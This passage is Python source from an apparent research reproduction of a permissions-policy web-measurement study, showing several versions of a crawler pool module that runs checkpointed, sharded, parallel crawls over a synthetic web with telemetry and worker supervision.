            progress: Callable[[int, int], None] | None = None,
            *,
            store: "CrawlStore | None" = None,
            resume: bool = False,
            telemetry: CrawlTelemetry | None = None) -> CrawlDataset:
        """Crawl the given ranks (default: the whole list) once each.

        With ``store``, every visit is persisted the moment it completes;
        with ``resume=True`` as well, ranks already in the store are loaded
        back instead of re-crawled and the merged dataset equals an
        uninterrupted run.  ``telemetry`` receives per-visit updates from
        the worker threads.
        """
        if resume and store is None:
            raise ValueError("resume=True requires a store")
        targets = list(ranks if ranks is not None
                       else range(self.web.site_count))
        resumed: list[SiteVisit] = []
        if resume:
            done = store.stored_ranks()
            if done:
                wanted = set(targets) & done
                resumed = [visit for visit in store.load_dataset().visits
                           if visit.rank in wanted]
                targets = [rank for rank in targets if rank not in done]
        if telemetry is not None:
            telemetry.start(len(targets))
            telemetry.record_resumed(len(resumed))

        def visit_rank(rank: int) -> SiteVisit:
            # One crawler (and one fetcher) per task keeps worker state
            # independent, like the paper's per-site fresh (stateless)
            # browser — and makes fault-injection state per-visit, so
            # serial, parallel and resumed runs all see identical faults.
            crawler = self._make_crawler()
            visit = crawler.visit(self.web.origin_for_rank(rank), rank=rank)
            if store is not None:
                store.save_visit(visit)
            if telemetry is not None:
                telemetry.record_visit(visit)
            return visit

        dataset = CrawlDataset()
        dataset.visits.extend(resumed)
        if self.workers == 1:
            for index, rank in enumerate(targets):
                dataset.visits.append(visit_rank(rank))
                if progress is not None:
                    progress(index + 1, len(targets))
        else:
            with ThreadPoolExecutor(max_workers=self.workers) as executor:
                for index, visit in enumerate(
                        executor.map(visit_rank, targets)):
                    dataset.visits.append(visit)
                    if progress is not None:
                        progress(index + 1, len(targets))
        dataset.visits.sort(key=lambda visit: visit.rank)
        return dataset
