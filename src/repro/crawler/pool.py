"""Parallel crawl orchestration.

The paper ran 40 parallel crawlers for nine days; :class:`CrawlerPool` runs
N worker threads over the ranked origin list and aggregates the results
into a :class:`CrawlDataset` with the Section 4 failure taxonomy.  Results
are deterministic regardless of worker count because every site's content
is a pure function of (seed, rank).
"""

from __future__ import annotations

from collections import Counter
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from typing import Callable, Iterable, Sequence

from repro.crawler.crawler import CrawlConfig, Crawler
from repro.crawler.fetcher import SyntheticFetcher
from repro.crawler.records import SiteVisit
from repro.policy.engine import PermissionsPolicyEngine
from repro.synthweb.generator import SyntheticWeb


@dataclass
class CrawlDataset:
    """All visits of one measurement run."""

    visits: list[SiteVisit] = field(default_factory=list)

    @property
    def attempted(self) -> int:
        return len(self.visits)

    def successful(self) -> list[SiteVisit]:
        return [visit for visit in self.visits if visit.success]

    @property
    def successful_count(self) -> int:
        return sum(1 for visit in self.visits if visit.success)

    def failure_summary(self) -> dict[str, int]:
        """Failure taxonomy counts (the Section 4 breakdown)."""
        return dict(Counter(visit.failure for visit in self.visits
                            if not visit.success))

    @property
    def top_level_document_count(self) -> int:
        """Top-level documents including redirect hops — the denominator of
        every percentage the paper reports."""
        return sum(visit.top_level_document_count
                   for visit in self.successful())

    @property
    def embedded_document_count(self) -> int:
        return sum(len(visit.embedded_frames())
                   for visit in self.successful())

    @property
    def total_frame_count(self) -> int:
        return self.top_level_document_count + self.embedded_document_count

    def average_duration_seconds(self) -> float:
        if not self.visits:
            return 0.0
        return (sum(visit.duration_seconds for visit in self.visits)
                / len(self.visits))

    def sites_with_iframes(self) -> int:
        return sum(1 for visit in self.successful()
                   if visit.embedded_frames())

    def local_embedded_share(self) -> float:
        """Share of embedded documents that are local documents."""
        local = 0
        total = 0
        for visit in self.successful():
            for frame in visit.embedded_frames():
                total += 1
                if frame.is_local:
                    local += 1
        return local / total if total else 0.0


class CrawlerPool:
    """Runs crawls over a ranked range of the synthetic web."""

    def __init__(self, web: SyntheticWeb, *, workers: int = 4,
                 config: CrawlConfig | None = None,
                 engine: PermissionsPolicyEngine | None = None) -> None:
        if workers < 1:
            raise ValueError("workers must be >= 1")
        self.web = web
        self.workers = workers
        self.config = config if config is not None else CrawlConfig()
        self._engine = engine

    def _make_crawler(self) -> Crawler:
        return Crawler(SyntheticFetcher(self.web), config=self.config,
                       engine=self._engine)

    def run(self, ranks: Sequence[int] | None = None,
            progress: Callable[[int, int], None] | None = None
            ) -> CrawlDataset:
        """Crawl the given ranks (default: the whole list) once each."""
        targets = list(ranks if ranks is not None
                       else range(self.web.site_count))
        dataset = CrawlDataset()
        if self.workers == 1:
            crawler = self._make_crawler()
            for index, rank in enumerate(targets):
                dataset.visits.append(
                    crawler.visit(self.web.origin_for_rank(rank), rank=rank))
                if progress is not None:
                    progress(index + 1, len(targets))
            return dataset

        def visit_rank(rank: int) -> SiteVisit:
            # One crawler per task keeps worker state independent, like the
            # paper's per-site fresh (stateless) browser.
            crawler = self._make_crawler()
            return crawler.visit(self.web.origin_for_rank(rank), rank=rank)

        with ThreadPoolExecutor(max_workers=self.workers) as executor:
            for index, visit in enumerate(executor.map(visit_rank, targets)):
                dataset.visits.append(visit)
                if progress is not None:
                    progress(index + 1, len(targets))
        dataset.visits.sort(key=lambda visit: visit.rank)
        return dataset
