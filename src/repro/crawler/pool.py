"""Parallel crawl orchestration.

The paper ran 40 parallel crawlers for nine days; :class:`CrawlerPool` runs
N worker threads over the ranked origin list and aggregates the results
into a :class:`CrawlDataset` with the Section 4 failure taxonomy.  Results
are deterministic regardless of worker count because every site's content
is a pure function of (seed, rank).

Resilience (this mirrors the paper's operational setup, Appendix A.2):

* ``run(store=CrawlStore(...))`` persists visits as they complete (C14),
  from whichever worker thread finished them, batched through
  :meth:`~repro.crawler.storage.CrawlStore.save_visits` in groups of
  :data:`STORE_BATCH_SIZE` so the store stage stays a small share of the
  crawl — a crash loses at most the current batch plus in-flight visits,
  and every graceful-stop path flushes the batch first;
* ``run(store=..., resume=True)`` queries the checkpoint for
  already-stored ranks and crawls only the remainder — the merged dataset
  is byte-identical to an uninterrupted run;
* ``run(store=..., shards=N)`` partitions the rank list into N contiguous
  shards, crawls each into its own sidecar SQLite store and merges every
  completed shard back into the main store, deleting the sidecar — paper
  scale crawls keep per-file size and write contention bounded while the
  merged store stays byte-identical to an unsharded run (resume works
  across shard boundaries: leftover shard files from a killed run are
  merged before the remainder is computed);
* ``run(store=..., collect=False)`` skips accumulating visits in memory —
  the returned dataset is empty and the store is the output — so a 100k+
  site crawl runs with bounded memory;
* ``run(telemetry=CrawlTelemetry())`` streams per-worker visit counts,
  retry counts, the failure taxonomy and rolling throughput to the
  collector while the crawl is still going;
* a :class:`~repro.crawler.resilience.RetryPolicy` re-attempts transient
  failures inside each worker, and an unexpected exception in any single
  visit is recorded as a ``minor-crawler-error`` instead of destroying
  the pool.
"""

from __future__ import annotations

import contextlib
import logging
import math
import signal
import threading
from collections import Counter
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path
from typing import TYPE_CHECKING, Callable, Iterator, Sequence

from repro.browser.page import Fetcher
from repro.obs.tracing import TRACER
from repro.crawler.crawler import CrawlConfig, Crawler
from repro.crawler.fetcher import SyntheticFetcher
from repro.crawler.records import SiteVisit
from repro.crawler.resilience import RetryPolicy
from repro.crawler.telemetry import CrawlTelemetry
from repro.policy.engine import PermissionsPolicyEngine
from repro.synthweb.generator import SyntheticWeb

if TYPE_CHECKING:  # pragma: no cover - import cycle: storage imports pool
    from repro.crawler.backends import FetcherSpec
    from repro.crawler.chaos import ChaosPolicy
    from repro.crawler.storage import CrawlStore
    from repro.crawler.supervisor import SupervisorConfig

logger = logging.getLogger(__name__)


class _VisitList(list):
    """Visit list that tells its owning dataset when it mutates.

    Every analysis filters down to successful visits; the dataset caches
    that filter and this subclass invalidates the cache on any mutation.
    The ``getattr`` guard matters for unpickling: protocol-2 list pickles
    append items *before* instance state (the ``_dataset`` backref) is
    restored.
    """

    _dataset: "CrawlDataset | None"

    def _touch(self) -> None:
        dataset = getattr(self, "_dataset", None)
        if dataset is not None:
            dataset._invalidate()

    def append(self, item):  # noqa: D102 - list API
        super().append(item)
        self._touch()

    def extend(self, items):
        super().extend(items)
        self._touch()

    def insert(self, index, item):
        super().insert(index, item)
        self._touch()

    def remove(self, item):
        super().remove(item)
        self._touch()

    def pop(self, *args):
        item = super().pop(*args)
        self._touch()
        return item

    def clear(self):
        super().clear()
        self._touch()

    def sort(self, **kwargs):
        super().sort(**kwargs)
        self._touch()

    def reverse(self):
        super().reverse()
        self._touch()

    def __setitem__(self, index, value):
        super().__setitem__(index, value)
        self._touch()

    def __delitem__(self, index):
        super().__delitem__(index)
        self._touch()

    def __iadd__(self, other):
        result = super().__iadd__(other)
        self._touch()
        return result

    def __imul__(self, count):
        result = super().__imul__(count)
        self._touch()
        return result


@dataclass
class CrawlDataset:
    """All visits of one measurement run."""

    visits: list[SiteVisit] = field(default_factory=list)
    _successful_cache: "list[SiteVisit] | None" = field(
        default=None, init=False, repr=False, compare=False)

    def __setattr__(self, name: str, value: object) -> None:
        if name == "visits":
            if not isinstance(value, _VisitList):
                value = _VisitList(value)  # type: ignore[arg-type]
            value._dataset = self
            object.__setattr__(self, name, value)
            self._invalidate()
        else:
            object.__setattr__(self, name, value)

    def _invalidate(self) -> None:
        object.__setattr__(self, "_successful_cache", None)

    @property
    def attempted(self) -> int:
        return len(self.visits)

    def successful(self) -> list[SiteVisit]:
        """Successful visits, cached until :attr:`visits` next mutates.

        Callers share the cached list; treat it as read-only.
        """
        cached = self._successful_cache
        if cached is None:
            cached = [visit for visit in self.visits if visit.success]
            object.__setattr__(self, "_successful_cache", cached)
        return cached

    @property
    def successful_count(self) -> int:
        return len(self.successful())

    def failure_summary(self) -> dict[str, int]:
        """Failure taxonomy counts (the Section 4 breakdown)."""
        return dict(Counter(visit.failure for visit in self.visits
                            if not visit.success))

    @property
    def retry_count(self) -> int:
        """Total transient-failure retries spent across all visits."""
        return sum(visit.retries for visit in self.visits)

    @property
    def top_level_document_count(self) -> int:
        """Top-level documents including redirect hops — the denominator of
        every percentage the paper reports."""
        return sum(visit.top_level_document_count
                   for visit in self.successful())

    @property
    def embedded_document_count(self) -> int:
        return sum(len(visit.embedded_frames())
                   for visit in self.successful())

    @property
    def total_frame_count(self) -> int:
        return self.top_level_document_count + self.embedded_document_count

    def average_duration_seconds(self) -> float:
        # math.fsum: the exact (correctly rounded) sum, so materialized,
        # streaming and process-parallel summaries agree bit-for-bit no
        # matter how the visits were partitioned.
        if not self.visits:
            return 0.0
        return (math.fsum(visit.duration_seconds for visit in self.visits)
                / len(self.visits))

    def sites_with_iframes(self) -> int:
        return sum(1 for visit in self.successful()
                   if visit.embedded_frames())

    def local_embedded_share(self) -> float:
        """Share of embedded documents that are local documents."""
        local = 0
        total = 0
        for visit in self.successful():
            for frame in visit.embedded_frames():
                total += 1
                if frame.is_local:
                    local += 1
        return local / total if total else 0.0


#: Valid values for ``CrawlerPool(backend=...)``.
BACKENDS = ("auto", "serial", "thread", "process")

#: Visits buffered per batched store write on the pool's hot path.  Large
#: enough that per-commit overhead stops dominating the store stage, small
#: enough that a hard crash loses only a sliver of checkpoint progress.
STORE_BATCH_SIZE = 64


def shard_store_path(path: Path, index: int) -> Path:
    """The sidecar SQLite file a sharded run uses for shard ``index``."""
    return path.with_name(f"{path.name}.shard-{index:03d}")


def _delete_store_files(path: Path) -> None:
    """Remove a shard store file and its WAL/SHM sidecars."""
    for victim in (path, path.with_name(path.name + "-wal"),
                   path.with_name(path.name + "-shm")):
        with contextlib.suppress(FileNotFoundError):
            victim.unlink()


def _leftover_shard_paths(store_path: Path) -> list[Path]:
    """Shard store files a previous (killed) sharded run left behind."""
    return sorted(
        candidate for candidate
        in store_path.parent.glob(store_path.name + ".shard-*")
        if not candidate.name.endswith(("-wal", "-shm")))


class _StoreBatcher:
    """Buffers completed visits and writes them in batched transactions.

    Thread-safe: worker threads hand visits over under a small lock and
    the full batch is written through
    :meth:`~repro.crawler.storage.CrawlStore.save_visits` outside it (the
    store has its own writer lock).  :meth:`flush` drains the remainder;
    every pool exit path calls it, so graceful stops checkpoint everything
    that completed.
    """

    def __init__(self, store: "CrawlStore",
                 batch_size: int = STORE_BATCH_SIZE) -> None:
        self._store = store
        self._batch_size = batch_size
        self._lock = threading.Lock()
        self._buffer: list[SiteVisit] = []

    def add(self, visit: SiteVisit) -> None:
        with self._lock:
            self._buffer.append(visit)
            if len(self._buffer) < self._batch_size:
                return
            batch, self._buffer = self._buffer, []
        self._store.save_visits(batch, chunk_size=self._batch_size)

    def flush(self) -> None:
        with self._lock:
            batch, self._buffer = self._buffer, []
        if batch:
            self._store.save_visits(batch, chunk_size=self._batch_size)


class _CrawlInterrupted(Exception):
    """Internal: a worker observed the pool's stop request.

    Never escapes :meth:`CrawlerPool.run`; it only unwinds the backend
    loops so an interrupted run returns the visits completed so far.
    """


@contextlib.contextmanager
def _stop_on_signals(pool: "CrawlerPool") -> Iterator[None]:
    """Install SIGINT/SIGTERM handlers that request a graceful stop.

    Handlers are only installable from the main thread (and only on
    platforms that have the signals); anywhere else this is a no-op, and
    previous handlers are always restored on exit.  The handler merely
    sets the pool's stop event — completed visits are already checkpointed
    by the normal save path, so the run winds down to a cleanly resumable
    store instead of dying mid-write.
    """
    if threading.current_thread() is not threading.main_thread():
        yield
        return
    previous: dict[int, object] = {}

    def handler(signum: int, frame: object) -> None:
        logger.warning("received signal %d — finishing in-flight visits "
                       "and checkpointing", signum)
        pool.request_stop()

    for signum in (signal.SIGINT, signal.SIGTERM):
        try:
            previous[signum] = signal.signal(signum, handler)
        except (ValueError, OSError):  # pragma: no cover - platform quirk
            continue
    try:
        yield
    finally:
        for signum, old in previous.items():
            try:
                signal.signal(signum, old)
            except (ValueError, OSError):  # pragma: no cover
                continue


class CrawlerPool:
    """Runs crawls over a ranked range of the synthetic web.

    Backends (results are byte-identical across all of them):

    * ``"serial"`` — one visit after another in the calling thread;
    * ``"thread"`` — a :class:`ThreadPoolExecutor`; useful for I/O-bound
      fetchers, no speedup for the pure-Python synthetic crawl (GIL);
    * ``"process"`` — contiguous rank chunks crawled in worker processes
      (:mod:`repro.crawler.backends`), the only backend that uses multiple
      cores;
    * ``"auto"`` — ``serial`` for ``workers=1``, else ``thread``.
    """

    def __init__(self, web: SyntheticWeb, *, workers: int = 4,
                 config: CrawlConfig | None = None,
                 engine: PermissionsPolicyEngine | None = None,
                 retry_policy: RetryPolicy | None = None,
                 fetcher_factory: Callable[[], Fetcher] | None = None,
                 fetcher_spec: "FetcherSpec | None" = None,
                 backend: str = "auto",
                 mp_context: str | None = None,
                 chunk_schedule: Sequence[int] | None = None) -> None:
        if workers < 1:
            raise ValueError("workers must be >= 1")
        if backend not in BACKENDS:
            raise ValueError(f"backend must be one of {BACKENDS}, "
                             f"got {backend!r}")
        if chunk_schedule is not None:
            chunk_schedule = tuple(int(size) for size in chunk_schedule)
            if not chunk_schedule or any(size < 1
                                         for size in chunk_schedule):
                raise ValueError(
                    "chunk_schedule must be a non-empty sequence of "
                    "positive chunk sizes")
        if fetcher_factory is not None and fetcher_spec is not None:
            raise ValueError("pass fetcher_factory or fetcher_spec, not both")
        self.web = web
        self.workers = workers
        self.backend = backend
        #: Start-method name for the process backend (``"fork"``/
        #: ``"spawn"``); ``None`` picks the best available.
        self.mp_context = mp_context
        self.config = config if config is not None else CrawlConfig()
        self.retry_policy = retry_policy
        # One engine for the whole pool: policy evaluation is pure, so the
        # engine's structural decision memo (keyed on chain shape, not frame
        # identity) can be shared across visits and worker threads — the
        # same widget chain on site N and site N+1 is one memo entry.  A
        # fresh engine per visit would discard the memo each time.  Same
        # thread-safety argument as repro.policy.memo: dict single-key ops
        # are atomic and a lost race merely duplicates a pure computation.
        self._engine = (engine if engine is not None
                        else PermissionsPolicyEngine())
        #: Picklable fetcher recipe — the only fetcher customisation the
        #: process backend supports (closures don't cross processes).
        self.fetcher_spec = fetcher_spec
        self._custom_factory = fetcher_factory is not None
        #: Builds the fetcher each per-visit crawler uses; override to wrap
        #: the network stack, e.g. with a
        #: :class:`~repro.crawler.resilience.FaultInjectingFetcher`.  Called
        #: once per visit so wrapper state (fault-injection attempt
        #: counters) stays per-visit and worker-count independent.
        if fetcher_factory is not None:
            self.fetcher_factory = fetcher_factory
        elif fetcher_spec is not None:
            self.fetcher_factory = lambda: fetcher_spec.build(self.web)
        else:
            self.fetcher_factory = lambda: SyntheticFetcher(self.web)
        #: Explicit chunk-size list for the process backend: replays a
        #: previously recorded autotuner schedule instead of adapting
        #: (``None`` = adaptive).  Chunk sizes never change dataset bytes;
        #: replay exists so a run's partition can be reproduced exactly.
        self.chunk_schedule = chunk_schedule
        #: Realised chunk schedule of the most recent process-backend run
        #: (``{"mode", "sizes", ...}``), ``None`` before any such run.
        self.last_chunk_schedule: "dict | None" = None
        #: Warm-worker stats of the most recent process-backend run
        #: (worker pids, webs constructed, chunk count).
        self.last_run_stats: "dict | None" = None
        #: Supervision summary of the most recent supervised
        #: process-backend run (rebuilds, requeues, bisections,
        #: quarantined ranks — see
        #: :meth:`repro.crawler.supervisor.ChunkSupervisor.stats`);
        #: ``None`` for unsupervised runs.
        self.last_supervisor_stats: "dict | None" = None
        self._stop = threading.Event()

    def request_stop(self) -> None:
        """Ask a running crawl to wind down gracefully.

        Safe from any thread and from signal handlers: in-flight visits
        finish (and are checkpointed), queued visits are abandoned, and
        :meth:`run` returns what completed.  A store-backed run left this
        way resumes to a byte-identical dataset.
        """
        self._stop.set()

    @property
    def stop_requested(self) -> bool:
        return self._stop.is_set()

    def resolved_backend(self, backend: str | None = None) -> str:
        """The concrete backend a run would use (never ``"auto"``)."""
        choice = backend if backend is not None else self.backend
        if choice not in BACKENDS:
            raise ValueError(f"backend must be one of {BACKENDS}, "
                             f"got {choice!r}")
        if choice == "auto":
            return "serial" if self.workers == 1 else "thread"
        return choice

    def _make_crawler(self) -> Crawler:
        return Crawler(self.fetcher_factory(), config=self.config,
                       engine=self._engine, retry_policy=self.retry_policy)

    def run(self, ranks: Sequence[int] | None = None,
            progress: Callable[[int, int], None] | None = None,
            *,
            store: "CrawlStore | None" = None,
            resume: bool = False,
            telemetry: CrawlTelemetry | None = None,
            backend: str | None = None,
            handle_signals: bool = False,
            shards: int | None = None,
            collect: bool = True,
            max_pool_rebuilds: int = 0,
            supervisor: "SupervisorConfig | None" = None,
            chaos: "ChaosPolicy | None" = None) -> CrawlDataset:
        """Crawl the given ranks (default: the whole list) once each.

        With ``store``, visits are persisted as they complete, batched
        through :meth:`~repro.crawler.storage.CrawlStore.save_visits` (the
        process backend persists per finished chunk); with ``resume=True``
        as well, ranks already in the store are loaded back instead of
        re-crawled and the merged dataset equals an uninterrupted run.
        ``telemetry`` receives per-visit updates.  ``backend`` overrides
        the pool's configured backend for this run.

        With ``shards=N`` (N > 1; requires ``store``), the rank list is
        partitioned into N contiguous shards, each crawled into a sidecar
        shard store that is merged into ``store`` and deleted as it
        completes.  The merged store is byte-identical to an unsharded run
        (same visits, same checksums, read back in rank order), including
        under ``resume=`` — a killed sharded run leaves shard files behind
        and the next ``resume=True`` run merges them before computing the
        remainder — and under fault injection, whose faults depend only on
        (seed, url, attempt).

        With ``collect=False`` (requires ``store``), completed visits are
        *not* accumulated in memory: the returned dataset is empty and the
        store is the run's output (stream it back with
        :meth:`~repro.crawler.storage.CrawlStore.iter_visits`).  This is
        how 100k+-site crawls keep peak RSS bounded.

        With ``handle_signals=True`` (the CLI's mode), SIGINT/SIGTERM
        request a graceful stop for the duration of the run: in-flight
        visits finish and are checkpointed, the store's WAL is flushed,
        and the partial dataset is returned — ``resume=True`` on the same
        store later completes it to a byte-identical dataset.
        :meth:`request_stop` does the same programmatically.

        With ``max_pool_rebuilds=N`` (N > 0; process backend only), the
        run is supervised: a crashed or hung worker pool is rebuilt up to
        N times, lost chunks are requeued, and a visit that repeatedly
        kills workers is bisected down to its rank and quarantined as
        ``poison-visit`` instead of sinking the run (see
        :mod:`repro.crawler.supervisor`).  Pass ``supervisor=`` a full
        :class:`~repro.crawler.supervisor.SupervisorConfig` to tune the
        watchdog and strike thresholds — a non-zero ``max_pool_rebuilds``
        then overrides the config's budget.  ``chaos=`` injects
        deterministic faults for drills
        (:class:`~repro.crawler.chaos.ChaosPolicy`).  Supervision never
        changes dataset bytes: requeued chunks replay the same pure
        (seed, rank) visits, and a sharded run supervises each shard with
        a fresh budget.
        """
        if resume and store is None:
            raise ValueError("resume=True requires a store")
        if not collect and store is None:
            raise ValueError("collect=False requires a store")
        shard_count = 1 if shards is None else int(shards)
        if shard_count < 1:
            raise ValueError(f"shards must be >= 1, got {shards!r}")
        if shard_count > 1 and store is None:
            raise ValueError("shards > 1 requires a store to merge into")
        chosen = self.resolved_backend(backend)
        if max_pool_rebuilds < 0:
            raise ValueError(f"max_pool_rebuilds must be >= 0, "
                             f"got {max_pool_rebuilds!r}")
        if max_pool_rebuilds > 0:
            from repro.crawler.supervisor import SupervisorConfig
            if supervisor is None:
                supervisor = SupervisorConfig(
                    max_pool_rebuilds=max_pool_rebuilds)
            else:
                import dataclasses
                supervisor = dataclasses.replace(
                    supervisor, max_pool_rebuilds=max_pool_rebuilds)
        if supervisor is not None and chosen != "process":
            raise ValueError("supervision (max_pool_rebuilds/supervisor) "
                             "requires the process backend, "
                             f"got {chosen!r}")
        if chaos is not None and chosen != "process":
            # Chaos injections run inside worker *processes*; on an
            # in-process backend os._exit would kill the caller.
            raise ValueError("chaos injection requires the process "
                             f"backend, got {chosen!r}")
        self._stop.clear()
        targets = list(ranks if ranks is not None
                       else range(self.web.site_count))
        guard = (_stop_on_signals(self) if handle_signals
                 else contextlib.nullcontext())
        with guard:
            if shard_count > 1:
                return self._run_sharded(
                    shard_count, targets, progress, store=store,
                    resume=resume, telemetry=telemetry, chosen=chosen,
                    collect=collect, supervisor=supervisor, chaos=chaos)
            return self._run_single(
                targets, progress, store=store, resume=resume,
                telemetry=telemetry, chosen=chosen, collect=collect,
                supervisor=supervisor, chaos=chaos)

    def _resume_split(self, targets: list[int], store: "CrawlStore",
                      collect: bool
                      ) -> tuple[list[int], list[SiteVisit], int]:
        """Split ``targets`` into (remaining, resumed visits, resumed
        count).  With ``collect=False`` the resumed visits stay in the
        store — only the count is computed."""
        done = store.stored_ranks()
        if not done:
            return targets, [], 0
        wanted = set(targets) & done
        resumed = store.load_visits(sorted(wanted)) if collect else []
        remaining = [rank for rank in targets if rank not in done]
        return remaining, resumed, len(wanted)

    def _run_single(self, targets: list[int],
                    progress: Callable[[int, int], None] | None,
                    *, store: "CrawlStore | None", resume: bool,
                    telemetry: CrawlTelemetry | None, chosen: str,
                    collect: bool,
                    supervisor: "SupervisorConfig | None" = None,
                    chaos: "ChaosPolicy | None" = None) -> CrawlDataset:
        resumed: list[SiteVisit] = []
        resumed_count = 0
        if resume:
            targets, resumed, resumed_count = self._resume_split(
                targets, store, collect)
        if telemetry is not None:
            # total covers the full run, so a resumed run still converges
            # to done (completed + resumed == total) instead of reporting
            # a non-empty queue forever.
            telemetry.start(len(targets) + resumed_count, backend=chosen)
            telemetry.record_resumed(resumed_count)
        logger.info("crawl starting: %d targets (%d resumed), backend=%s, "
                    "workers=%d", len(targets), resumed_count, chosen,
                    self.workers)
        dataset = CrawlDataset()
        dataset.visits.extend(resumed)
        with TRACER.span("crawl.run", backend=chosen, sites=len(targets),
                         resumed=resumed_count, workers=self.workers):
            dataset.visits.extend(self._crawl_targets(
                targets, chosen=chosen, store=store, telemetry=telemetry,
                progress=progress, collect=collect,
                supervisor=supervisor, chaos=chaos))
        dataset.visits.sort(key=lambda visit: visit.rank)
        if self._stop.is_set():
            if store is not None:
                store.flush()
            if telemetry is not None:
                telemetry.record_interrupted()
            logger.warning(
                "crawl interrupted after %d/%d visits — checkpoint "
                "flushed; rerun with resume=True to finish",
                dataset.attempted - len(resumed), len(targets))
        else:
            logger.info("crawl finished: %d visits (%d ok)",
                        dataset.attempted, dataset.successful_count)
        return dataset

    def _run_sharded(self, shards: int, targets: list[int],
                     progress: Callable[[int, int], None] | None,
                     *, store: "CrawlStore", resume: bool,
                     telemetry: CrawlTelemetry | None, chosen: str,
                     collect: bool,
                     supervisor: "SupervisorConfig | None" = None,
                     chaos: "ChaosPolicy | None" = None) -> CrawlDataset:
        from repro.crawler.backends import chunk_ranks
        from repro.crawler.storage import CrawlStore

        leftovers = _leftover_shard_paths(store.path)
        if leftovers and resume:
            # A killed sharded run left completed shards (or a partial
            # one) behind; fold them into the checkpoint so the normal
            # resume split sees their ranks as done.
            for path in leftovers:
                with CrawlStore(path) as shard:
                    store.merge_from(shard)
                _delete_store_files(path)
            logger.info("merged %d leftover shard store(s) into %s",
                        len(leftovers), store.path)
        elif leftovers:
            for path in leftovers:  # stale wreckage of a fresh run
                _delete_store_files(path)
        resumed: list[SiteVisit] = []
        resumed_count = 0
        if resume:
            targets, resumed, resumed_count = self._resume_split(
                targets, store, collect)
        if telemetry is not None:
            telemetry.start(len(targets) + resumed_count, backend=chosen)
            telemetry.record_resumed(resumed_count)
        chunks = chunk_ranks(targets, shards)
        logger.info("sharded crawl starting: %d targets across %d shards "
                    "(%d resumed), backend=%s, workers=%d", len(targets),
                    len(chunks), resumed_count, chosen, self.workers)
        dataset = CrawlDataset()
        dataset.visits.extend(resumed)
        completed_base = 0
        with TRACER.span("crawl.run.sharded", backend=chosen,
                         sites=len(targets), shards=len(chunks),
                         resumed=resumed_count, workers=self.workers):
            for index, chunk in enumerate(chunks):
                if self._stop.is_set():
                    break
                shard_path = shard_store_path(store.path, index)
                _delete_store_files(shard_path)
                with TRACER.span("crawl.shard", shard=index,
                                 ranks=len(chunk)):
                    shard_progress = None
                    if progress is not None:
                        def shard_progress(done: int, _total: int,
                                           base: int = completed_base
                                           ) -> None:
                            progress(base + done, len(targets))
                    with CrawlStore(shard_path) as shard_store:
                        visits = self._crawl_targets(
                            chunk, chosen=chosen, store=shard_store,
                            telemetry=telemetry, progress=shard_progress,
                            collect=collect, supervisor=supervisor,
                            chaos=chaos)
                        shard_store.flush()
                        # Merge even a partially crawled shard: graceful
                        # stop checkpoints everything that completed.
                        store.merge_from(shard_store)
                    _delete_store_files(shard_path)
                completed_base += len(chunk)
                if collect:
                    dataset.visits.extend(visits)
        dataset.visits.sort(key=lambda visit: visit.rank)
        store.flush()
        if self._stop.is_set():
            if telemetry is not None:
                telemetry.record_interrupted()
            logger.warning(
                "sharded crawl interrupted after %d/%d visits — "
                "checkpoint flushed; rerun with resume=True to finish",
                dataset.attempted - len(resumed), len(targets))
        else:
            logger.info("sharded crawl finished: %d visits (%d ok)",
                        dataset.attempted, dataset.successful_count)
        return dataset

    def _crawl_targets(self, targets: list[int], *, chosen: str,
                       store: "CrawlStore | None",
                       telemetry: CrawlTelemetry | None,
                       progress: Callable[[int, int], None] | None,
                       collect: bool,
                       supervisor: "SupervisorConfig | None" = None,
                       chaos: "ChaosPolicy | None" = None
                       ) -> list[SiteVisit]:
        """Crawl ``targets`` on the chosen backend, batching store writes.

        Returns the completed visits (empty with ``collect=False``).  The
        write batch is always flushed on the way out, including when a
        stop request unwinds the backend loop.
        """
        batcher = _StoreBatcher(store) if store is not None else None
        collected: list[SiteVisit] = []

        def visit_rank(rank: int) -> SiteVisit:
            # One crawler (and one fetcher) per task keeps worker state
            # independent, like the paper's per-site fresh (stateless)
            # browser — and makes fault-injection state per-visit, so
            # serial, parallel and resumed runs all see identical faults.
            if self._stop.is_set():
                raise _CrawlInterrupted(rank)
            with TRACER.span("crawl.visit", rank=rank):
                crawler = self._make_crawler()
                visit = crawler.visit(self.web.origin_for_rank(rank),
                                      rank=rank)
            if batcher is not None:
                batcher.add(visit)
            if telemetry is not None:
                telemetry.record_visit(visit)
                for event in crawler.guard_events:
                    telemetry.record_guard_event(event.kind)
            return visit

        try:
            if chosen == "process" and targets:
                from repro.crawler.backends import crawl_in_processes
                visits = crawl_in_processes(
                    self, targets, progress=progress, store=store,
                    telemetry=telemetry, collect=collect,
                    supervisor=supervisor, chaos=chaos)
                if collect:
                    collected.extend(visits)
            elif chosen == "serial" or self.workers == 1:
                for index, rank in enumerate(targets):
                    if self._stop.is_set():
                        break
                    try:
                        visit = visit_rank(rank)
                    except _CrawlInterrupted:
                        break
                    if collect:
                        collected.append(visit)
                    if progress is not None:
                        progress(index + 1, len(targets))
            else:
                with ThreadPoolExecutor(max_workers=self.workers) as executor:
                    try:
                        for index, visit in enumerate(
                                executor.map(visit_rank, targets)):
                            if collect:
                                collected.append(visit)
                            if progress is not None:
                                progress(index + 1, len(targets))
                    except _CrawlInterrupted:
                        # Queued tasks unwind the same way as they are
                        # scheduled; the executor exit just drains them.
                        pass
        finally:
            if batcher is not None:
                batcher.flush()
        return collected
