"""Crawling framework (the Playwright-pipeline equivalent).

* :mod:`repro.crawler.errors` — the paper's crawl-failure taxonomy;
* :mod:`repro.crawler.fetcher` — resolves URLs against a
  :class:`~repro.synthweb.generator.SyntheticWeb`;
* :mod:`repro.crawler.records` — the persisted measurement records;
* :mod:`repro.crawler.crawler` — one-site visit protocol (load wait,
  settle, lazy-iframe scrolling, final collection);
* :mod:`repro.crawler.interaction` — the interactive crawl used by the
  Appendix A.3 experiments;
* :mod:`repro.crawler.pool` — parallel crawl orchestration with
  checkpoint/resume;
* :mod:`repro.crawler.backends` — the process backend (contiguous rank
  chunks in worker processes) and picklable fetcher specs;
* :mod:`repro.crawler.supervisor` — self-healing supervision of the
  process backend: pool rebuilds, poison-visit quarantine, the chunk
  hang watchdog;
* :mod:`repro.crawler.chaos` — deterministic fault injection into
  worker processes for supervision drills;
* :mod:`repro.crawler.resilience` — retry policy + deterministic fault
  injection;
* :mod:`repro.crawler.telemetry` — the thread-safe crawl telemetry
  collector;
